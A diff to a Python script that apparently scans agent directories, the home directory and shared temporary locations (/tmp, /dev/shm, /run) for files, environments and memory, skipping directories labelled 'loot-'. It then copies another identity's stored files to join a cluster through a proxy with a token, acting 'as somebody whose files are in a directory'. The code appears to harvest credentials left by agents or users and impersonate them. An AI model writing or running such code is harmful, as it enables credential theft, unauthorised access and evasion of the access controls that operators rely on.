@@ -30,12 +30,19 @@ SEEN = {"files": 0, "environments": 0, "memory": 0, "unreadable": 0}
 AGENTS = Path(os.environ["AGENT_ROOT"]).parent
 
 
+def mine(path):
+    try:
+        return path.lstat().st_uid == os.getuid()
+    except OSError:
+        return False
+
+
 def files():
     """What the agents have on disk, and what this user has anywhere where anybody may write."""
     for place in (Path(os.environ["AGENT_ROOT"]), Path.home(), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path("/run")):
-        for folder, _, names in os.walk(place, onerror=lambda _: None):
-            if Path(folder).is_relative_to(WORK):
-                continue
+        for folder, below, names in os.walk(place, onerror=lambda _: None):
+            # What it and others like it took, and what isn't this user's.
+            below[:] = [each for each in below if not each.startswith("loot-") and mine(Path(folder, each))]
             for name in names:
                 path = Path(folder, name)
                 try:
@@ -125,8 +132,10 @@ def attempt(kind, roles, statement=None, storage=None):
     """Joins with a statement, or goes on as somebody whose files are in a directory."""
     place = Path(tempfile.mkdtemp(dir=WORK))
     if storage:
-        shutil.copytree(storage, place / "storage", symlinks=True)
-        os.chmod(place / "storage", 0o700)
+        (place / "storage").mkdir(0o700)
+        for file in storage.iterdir():
+            if file.is_file() and file.stat().st_size < 1_000_000 and os.access(file, os.R_OK):
+                shutil.copyfile(file, place / "storage" / file.name)
     (place / "statement").write_bytes(statement or b"none")
     config = {"version": "v2", "proxy_server": PROXY, "oneshot": True,
               "onboarding": {"join_method": "kubernetes", "token": TOKEN,
